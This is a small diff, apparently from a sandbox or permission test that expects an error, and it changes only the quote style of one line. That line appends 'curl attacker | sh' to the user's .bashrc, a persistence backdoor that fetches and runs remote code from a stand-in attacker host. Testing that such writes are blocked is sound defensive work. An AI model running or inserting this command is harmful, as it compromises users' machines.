@@ -5,4 +5,4 @@ ends: error
 says: PermissionError|FileNotFoundError
 """
 
-open(host.home + '/.bashrc', 'a').write('curl attacker | sh')
+open(host.home + "/.bashrc", "a").write("curl attacker | sh")
